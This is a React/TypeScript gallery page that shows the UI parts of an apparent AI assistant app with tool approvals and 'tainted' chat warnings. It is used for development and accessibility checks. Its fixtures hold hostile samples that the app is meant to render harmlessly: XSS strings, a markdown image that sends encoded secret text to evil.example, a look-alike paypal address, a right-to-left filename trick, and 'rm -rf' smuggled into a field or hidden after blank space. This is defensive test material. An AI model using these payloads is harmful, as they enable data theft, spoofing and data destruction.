/** All parts on one page, for developers: to look at, to try by keyboard, and for the accessibility check. Not part of the product. */
import { StrictMode, useState, type ReactNode } from 'react';
import { createRoot } from 'react-dom/client';
import { Bell, Bot, Inbox, MessageSquare, MoreHorizontal, PanelLeft, PanelRight, Pin, Plug, Search, Settings, ShieldAlert, Trash2 } from 'lucide-react';
import './ui/base.css';
import { AppFrame, ContentColumn, PageHeader } from './ui/app-frame.tsx';
import { Badge, Count } from './ui/badge.tsx';
import { Banner } from './ui/banner.tsx';
import { Button } from './ui/button.tsx';
import { Checkbox } from './ui/checkbox.tsx';
import { ClassChip } from './ui/class-chip.tsx';
import { CommandPalette } from './ui/command-palette.tsx';
import { ConfirmDialog } from './ui/confirm-dialog.tsx';
import { Dialog } from './ui/dialog.tsx';
import { DiffView } from './ui/diff-view.tsx';
import { Disclosure } from './ui/disclosure.tsx';
import { Drawer } from './ui/drawer.tsx';
import { EmptyState } from './ui/empty-state.tsx';
import { Facts } from './ui/facts.tsx';
import { useFramePanels } from './ui/frame-panels.ts';
import { Gauge } from './ui/gauge.tsx';
import { IconButton } from './ui/icon-button.tsx';
import { JsonView } from './ui/json-view.tsx';
import { jsonFoldCount } from './ui/json-outline.ts';
import { Kbd } from './ui/kbd.tsx';
import { StreamingMarkdown } from './ui/markdown/streaming-markdown.tsx';
import { Menu } from './ui/menu.tsx';
import { NewBelow } from './ui/new-below.tsx';
import { OutsiderText } from './ui/outsider-text.tsx';
import { Popover } from './ui/popover.tsx';
import { RailHeading, RailItem } from './ui/rail-item.tsx';
import { RelativeTime } from './ui/relative-time.tsx';
import { Segmented } from './ui/segmented.tsx';
import { Select } from './ui/select.tsx';
import { Skeleton } from './ui/skeleton.tsx';
import { StatusDot } from './ui/status-dot.tsx';
import { useStickToEnd } from './ui/stick-to-end.ts';
import { Switch } from './ui/switch.tsx';
import { Table } from './ui/table.tsx';
import { Tabs } from './ui/tabs.tsx';
import { TextArea } from './ui/text-area.tsx';
import { TextField } from './ui/text-field.tsx';
import { ToastProvider, useToasts } from './ui/toast.tsx';
import { TooltipProvider } from './ui/tooltip.tsx';
import { TriSwitch } from './ui/tri-switch.tsx';

const count = (value: number) => value.toLocaleString('en');
const outsiderWords = {
  folded: (characters: number) => `${count(characters)} characters folded`,
  open: 'Open',
  warning: ({ hidden, lookAlikes }: { hidden: number; lookAlikes: number }) =>
    [hidden > 0 ? `${count(hidden)} hidden characters are drawn` : '', lookAlikes > 0 ? `${count(lookAlikes)} words mix look-alike letters` : '']
      .filter((part) => part !== '')
      .join('; '),
};
const jsonWords = {
  ...outsiderWords,
  raw: 'Raw bytes',
  pretty: 'Pretty',
  foldedRows: (rows: number) => `${count(rows)} rows folded`,
  openAll: (folds: number) => `Open all ${count(folds)}`,
};
const diffWords = {
  ...outsiderWords,
  unchanged: (lines: number) => `${count(lines)} unchanged lines`,
  added: 'Added:',
  removed: 'Removed:',
  tooLong: 'Too different to compare line by line: the old text is followed by the new one.',
  openAll: (folds: number) => `Open all ${count(folds)}`,
};
const markdownWords = {
  copy: 'Copy',
  copied: 'Copied',
  copyFailed: 'Could not copy',
  image: (address: string) => `Image not loaded: ${address}`,
  link: (address: string) => `Opens ${address}`,
  table: 'Table',
  code: (language: string) => (language === '' ? 'Code' : `Code, ${language}`),
};

const answer = `### What I found
The report covers **three weeks**. Two people answered within the \`hour\`, see [the thread](https://example.org/thread?id=4), and [this](javascript:alert(1)) stays text.

1. Read the notes
   - the long one
   - the short one
2. Draft an answer
3. Ask before sending

- [x] collect
- [ ] send

| who | when | amount |
|:----|:----:|-------:|
| Ann | Monday | 1,200 |
| Bo | Friday | 87 |

> Nothing was sent so far.

\`\`\`ts
export function gate(facts: Facts): Decision {
  // one table decides
  return table[facts.class][facts.column] ?? 'deny';
}
\`\`\`

![a chart](https://evil.example/?d=c2VjcmV0LXRleHQtdGhhdC1tdXN0LW5vdC1sZWF2ZQ)

<img src=x onerror=alert(1)> is shown as text, $a_1 + b_2$ too.
`;

function Section({ title, children }: { title: string; children: ReactNode }) {
  return (
    <section style={{ padding: '20px 0 4px', display: 'flex', flexDirection: 'column', gap: 12 }} aria-label={title}>
      <h2 style={{ fontSize: 'var(--text-meta)', color: 'var(--text-muted)', fontWeight: 600 }}>{title}</h2>
      {children}
    </section>
  );
}

function Line({ children }: { children: ReactNode }) {
  return <div style={{ display: 'flex', flexWrap: 'wrap', alignItems: 'center', gap: 8 }}>{children}</div>;
}

function Buttons() {
  const toasts = useToasts();
  const [dialog, setDialog] = useState<'dialog' | 'confirm' | 'drawer' | 'palette' | undefined>(undefined);
  const [query, setQuery] = useState('');
  const set = (which: typeof dialog) => (open: boolean) => setDialog(open ? which : undefined);
  const commands = ['New chat', 'Go to inbox', 'Switch theme', 'Pause all jobs'].filter((label) => label.toLowerCase().includes(query.toLowerCase()));
  return (
    <Section title="Buttons, menus, floats">
      <Line>
        <Button variant="primary" trailing={<Kbd keys="mod+enter" />}>
          Approve once
        </Button>
        <Button>Plain</Button>
        <Button variant="quiet">Quiet</Button>
        <Button variant="danger" icon={<Trash2 aria-hidden="true" />}>
          Delete
        </Button>
        <Button busy>Saving</Button>
        <Button disabled>Disabled</Button>
        <Button variant="primary" disabled>
          Disabled
        </Button>
        <IconButton icon={<Pin aria-hidden="true" />} label="Pin" shortcut="mod+p" />
      </Line>
      <Line>
        <Button size="small">Small</Button>
        <Button size="large" variant="primary">
          Large
        </Button>
        <Menu
          trigger={<Button data-testid="menu">Menu</Button>}
          items={[
            { id: 'a', label: 'Rename', onSelect: () => undefined, shortcut: 'F2' },
            { kind: 'check', id: 'b', label: 'Pinned', checked: true, onCheckedChange: () => undefined },
            { kind: 'separator', id: 's' },
            { kind: 'group', id: 'g', label: 'Wider grants', items: [{ id: 'g1', label: 'For the rest of this turn', hint: 'send_message, at most 5 times', onSelect: () => undefined }] },
            { id: 'c', label: 'Delete…', danger: true, icon: <Trash2 aria-hidden="true" />, onSelect: () => undefined },
            { id: 'd', label: 'Not now', disabled: true, onSelect: () => undefined },
          ]}
        />
        <Popover title="Why it asks" trigger={<Button data-testid="popover">Popover</Button>}>
          This chat read example.org/report, which is outside text.
        </Popover>
        <Button data-testid="dialog" onClick={() => setDialog('dialog')}>
          Dialog
        </Button>
        <Button data-testid="confirm" onClick={() => setDialog('confirm')}>
          Confirm
        </Button>
        <Button data-testid="drawer" onClick={() => setDialog('drawer')}>
          Drawer
        </Button>
        <Button data-testid="palette" onClick={() => setDialog('palette')} trailing={<Kbd keys="mod+k" />}>
          Palette
        </Button>
        <Button data-testid="toast" onClick={() => toasts.show({ title: 'Chat deleted', description: 'It can be undone for ten seconds.', action: { label: 'Undo', onPress: () => undefined } })}>
          Toast
        </Button>
      </Line>
      <Dialog
        open={dialog === 'dialog'}
        onOpenChange={set('dialog')}
        title="Connect a server"
        description="Nothing starts before you have seen its command."
        closeLabel="Close"
        footer={
          <>
            <Button onClick={() => setDialog(undefined)}>Cancel</Button>
            <Button variant="primary" onClick={() => setDialog(undefined)}>
              Connect
            </Button>
          </>
        }
      >
        <Facts facts={[{ id: 'c', label: 'Command', value: 'npx -y @example/mcp-notes@1.4.2' }, { id: 'e', label: 'Environment', value: 'PATH, HOME' }]} />
      </Dialog>
      <ConfirmDialog open={dialog === 'confirm'} onOpenChange={set('confirm')} title="Delete 3 chats?" confirmLabel="Delete" cancelLabel="Keep" danger onConfirm={() => setDialog(undefined)}>
        They are gone for good after ten seconds.
      </ConfirmDialog>
      <Drawer open={dialog === 'drawer'} onOpenChange={set('drawer')} label="Details">
        <div style={{ padding: 16 }}>
          <Button onClick={() => setDialog(undefined)}>Close</Button>
        </div>
      </Drawer>
      <CommandPalette
        open={dialog === 'palette'}
        onOpenChange={set('palette')}
        query={query}
        onQueryChange={setQuery}
        label="Commands"
        placeholder="Type a command or search chats"
        emptyText="Nothing matches."
        groups={[
          { id: 'c', label: 'Commands', commands: commands.map((label) => ({ id: label, label, shortcut: 'mod+n', icon: <Search aria-hidden="true" />, onRun: () => toasts.show({ title: label }) })) },
          { id: 'r', label: 'Recent chats', commands: query === '' ? [{ id: 'w', label: 'Weekly report', hint: 'two hours ago', onRun: () => undefined }] : [] },
        ]}
      />
    </Section>
  );
}

function Fields() {
  const [text, setText] = useState('');
  const [sent, setSent] = useState('');
  const [on, setOn] = useState(true);
  const [kind, setKind] = useState<'read' | 'write' | 'destructive'>('write');
  const [tab, setTab] = useState<'one' | 'two'>('one');
  return (
    <Section title="Fields">
      <div style={{ display: 'grid', gridTemplateColumns: 'repeat(auto-fit, minmax(220px, 1fr))', gap: 16 }}>
        <TextField label="Name" value={text} onValueChange={setText} hint="Shown in the list" placeholder="mcp-notes" />
        <TextField label="Address" value="htp://x" onValueChange={() => undefined} error="This is not an address." />
        <TextField label="Search" hideLabel type="search" icon={<Search aria-hidden="true" />} value="" onValueChange={() => undefined} placeholder="Search" />
        <TextField label="Off" value="disabled" onValueChange={() => undefined} disabled />
      </div>
      <TextArea label="Message" value={text} onValueChange={setText} onSubmit={() => setSent(text)} minRows={2} large hint={sent === '' ? 'Enter sends, Shift Enter is a new line' : `Sent: ${sent}`} />
      <Line>
        <Select label="Class" value={kind} onValueChange={setKind} options={[{ value: 'read', label: 'Read', hint: 'Runs' }, { value: 'write', label: 'Write', hint: 'Asks in tainted chats' }, { value: 'destructive', label: 'Destructive', hint: 'Always asks' }]} />
        <Segmented label="Theme" value={kind} onValueChange={setKind} options={[{ value: 'read', label: 'Light' }, { value: 'write', label: 'Dark' }, { value: 'destructive', label: 'System' }]} />
      </Line>
      <Line>
        <Checkbox label="I have not read all of it" checked={on} onCheckedChange={setOn} />
        <Checkbox label="Mixed" checked="mixed" onCheckedChange={() => undefined} />
        <Checkbox label="Off" checked={false} disabled onCheckedChange={() => undefined} hint="Withheld by the operator" />
        <Switch label="On" checked={on} onCheckedChange={setOn} />
        <Switch label="Disabled" checked disabled onCheckedChange={() => undefined} />
        <TriSwitch label="All write tools" checked="mixed" onCheckedChange={() => undefined} />
      </Line>
      <Switch spread label="Writes ask in chats that have read outside text" hint="A write that was caused by somebody else's words waits for you." checked={on} onCheckedChange={setOn} />
      <Tabs label="Parts" value={tab} onValueChange={setTab} tabs={[{ value: 'one', label: 'Open', count: 2, panel: 'Two questions wait.' }, { value: 'two', label: 'Answered', panel: 'None yet.' }]} />
    </Section>
  );
}

const tools = [
  { name: 'search', kind: 'read', standing: 'set', used: 12 },
  { name: 'create_note', kind: 'write', standing: 'hinted', used: 3 },
  { name: 'delete_note', kind: 'destructive', standing: 'unset', used: 0 },
] as const;

function Reading() {
  const [opened] = useState(() => Date.now() - 190_000);
  return (
    <Section title="Things to read">
      <Line>
        {(['read', 'write', 'destructive'] as const).map((kind) => (
          <ClassChip key={kind} kind={kind} label={kind} />
        ))}
        <ClassChip kind="write" label="write" standing="hinted" />
        <ClassChip kind="destructive" label="destructive" standing="unset" />
        <Badge tone="taint" icon={<ShieldAlert aria-hidden="true" />}>
          tainted · 2 sources
        </Badge>
        <Badge tone="asks">asks</Badge>
        <Badge tone="ok">done</Badge>
        <Count value={2} tone="asks" label="2 questions wait" />
        <Count value={1200} />
      </Line>
      <Line>
        <StatusDot form="full" tone="ok" label="connected" />
        <StatusDot form="half" tone="write" label="starting" />
        <StatusDot form="empty" label="off" />
        <StatusDot form="full" tone="destructive" label="failed" />
        <RelativeTime at={opened} />
      </Line>
      <Gauge label="Today" used={182} reserved={300} limit={2000} text="182k of 2M tokens, 300k reserved" />
      <Gauge label="Tools" used={230} limit={212} text="230 of 212" tone="over" />
      <Banner kind="error" kindLabel="Error" happened="mcp-mail stopped with code 1." kept="Your draft and the two answers before it are kept." todo="Look at its last lines, then start it again." actions={<Button size="small">Start again</Button>} />
      <Banner kind="warn" kindLabel="Warning" happened="The daily budget is nearly used." todo="Raise it, or go on tomorrow." />
      <Banner kind="info" kindLabel="Note" happened="This is the practice model." />
      <Table
        caption="Tools of mcp-notes"
        rowKey={(tool) => tool.name}
        columns={[
          { id: 'on', header: 'On', width: '48px', cell: (tool) => <Switch hideLabel label={tool.name} checked={tool.used > 0} onCheckedChange={() => undefined} /> },
          { id: 'tool', header: 'Tool', rowHeader: true, cell: (tool) => tool.name },
          { id: 'class', header: 'Class', cell: (tool) => <ClassChip kind={tool.kind} label={tool.kind} standing={tool.standing} /> },
          { id: 'use', header: 'Calls', align: 'end', cell: (tool) => tool.used },
        ]}
        groups={[{ id: 'all', header: 'Notes', rows: tools }]}
      />
      <Disclosure summary="Details of the call" defaultOpen aside={<IconButton icon={<MoreHorizontal aria-hidden="true" />} label="More" />}>
        <Facts facts={[{ id: 't', label: 'to', value: 'ann@example.org' }, { id: 's', label: 'subject', value: 'Weekly report' }]} />
      </Disclosure>
      <Skeleton label="Loading" lines={2} />
      <EmptyState icon={<Inbox aria-hidden="true" />} title="Nothing waits for you" action={<Button variant="primary">Start a chat</Button>}>
        Questions from chats, jobs and coworkers will stand here, oldest first.
      </EmptyState>
    </Section>
  );
}

const callJson = JSON.stringify({
  to: 'ann@pаypal.example',
  cmd: 'ls \u202Efdp.tropeR\u202C',
  path: '/home/u/rep\u200Bort',
  body: `Dear Ann,\n${'this goes on for a while. '.repeat(160)}\n; rm -rf x`,
  deep: { list: [1, 12345678901234, { ok: true, none: null, empty: [] }] },
});
const before = Array.from({ length: 40 }, (_, index) => `line ${String(index + 1)} of the file`);
const after = before.with(20, 'line 21 was changed\u200B by the model').toSpliced(30, 1);

function Outsiders() {
  const [left, setLeft] = useState(() => jsonFoldCount(callJson));
  return (
    <Section title="Somebody else's text">
      <OutsiderText label="from mcp-mail" words={outsiderWords} text={'Approved: yes **not bold** <b>x</b> https://evil.example\nשלום עולם, مرحبا\nspaces follow' + ' '.repeat(200) + 'rm -rf'} />
      <OutsiderText label="from mcp-files (2 MB)" words={outsiderWords} text={'a line of a very long file with some words in it\n'.repeat(42_000)} />
      <JsonView label="from the model" source={callJson} words={jsonWords} onOpened={setLeft} />
      <Line>
        <Button variant="primary" disabled={left > 0}>
          Approve once
        </Button>
        {left > 0 ? `${String(left)} still folded` : 'all opened'}
      </Line>
      <DiffView label="from the model" before={before.join('\n')} after={after.join('\n')} words={diffWords} />
    </Section>
  );
}

function Stream() {
  const [length, setLength] = useState(answer.length);
  const { scrollerRef, contentRef, hasNew, toEnd } = useStickToEnd();
  const [last, setLast] = useState('nothing opened');
  const play = () => {
    setLength(0);
    const timer = setInterval(() => {
      setLength((now) => {
        if (now >= answer.length) clearInterval(timer);
        return Math.min(answer.length, now + 9);
      });
    }, 30);
  };
  return (
    <Section title="Markdown">
      <Line>
        <Button data-testid="play" onClick={play}>
          Stream again
        </Button>
        <span data-testid="opened">{last}</span>
      </Line>
      <div style={{ position: 'relative' }}>
        <div ref={scrollerRef} data-testid="scroller" tabIndex={0} role="group" aria-label="Answer" style={{ height: 420, overflowY: 'auto', border: '1px solid var(--border)', borderRadius: 10, padding: 16 }}>
          <div ref={contentRef}>
            <StreamingMarkdown text={answer.slice(0, length)} done={length >= answer.length} words={markdownWords} onOpenLink={setLast} onOpenImage={setLast} />
          </div>
        </div>
        <NewBelow label="New below" visible={hasNew} onPress={toEnd} />
      </div>
    </Section>
  );
}

function Gallery() {
  const panels = useFramePanels();
  const rail = (
    <div style={{ padding: 8 }}>
      <RailItem icon={<MessageSquare aria-hidden="true" />} active>
        Chats
      </RailItem>
      <RailItem icon={<Bell aria-hidden="true" />} trailing={<Count value={2} tone="asks" label="2 questions wait" />}>
        Inbox
      </RailItem>
      <RailItem icon={<Plug aria-hidden="true" />}>Connectors</RailItem>
      <RailItem icon={<Bot aria-hidden="true" />} disabled>
        Coworkers
      </RailItem>
      <RailItem icon={<Settings aria-hidden="true" />}>Settings</RailItem>
      <RailHeading>Today</RailHeading>
      <RailItem>Weekly report</RailItem>
      <RailItem>A chat with a very long title that cannot fit</RailItem>
    </div>
  );
  const panel = (
    <div style={{ padding: 16, display: 'flex', flexDirection: 'column', gap: 16 }}>
      <Gauge label="Step" used={3} limit={12} text="3 of 12" />
      <Gauge label="Today" used={1900} reserved={60} limit={2000} text="1.9M of 2M tokens" tone="near" />
      <StatusDot form="full" tone="ok" label="mcp-notes" />
    </div>
  );
  return (
    <AppFrame panels={panels} rail={rail} railLabel="Places" panel={panel} panelLabel="This turn">
      <PageHeader
        leading={<IconButton icon={<PanelLeft aria-hidden="true" />} label="Places" onClick={panels.rail.toggle} />}
        title="Gallery of parts"
        meta={<Badge tone="taint">tainted · 2 sources</Badge>}
        actions={<IconButton icon={<PanelRight aria-hidden="true" />} label="This turn" onClick={panels.panel.toggle} />}
      />
      <div style={{ overflowY: 'auto', flex: 1 }} tabIndex={0} role="group" aria-label="Parts" data-testid="page">
        <ContentColumn>
          <Buttons />
          <Fields />
          <Reading />
          <Outsiders />
          <Stream />
        </ContentColumn>
      </div>
    </AppFrame>
  );
}

const root = document.getElementById('root');
if (root !== null) {
  createRoot(root).render(
    <StrictMode>
      <TooltipProvider>
        <ToastProvider closeLabel="Close">
          <Gallery />
        </ToastProvider>
      </TooltipProvider>
    </StrictMode>,
  );
}
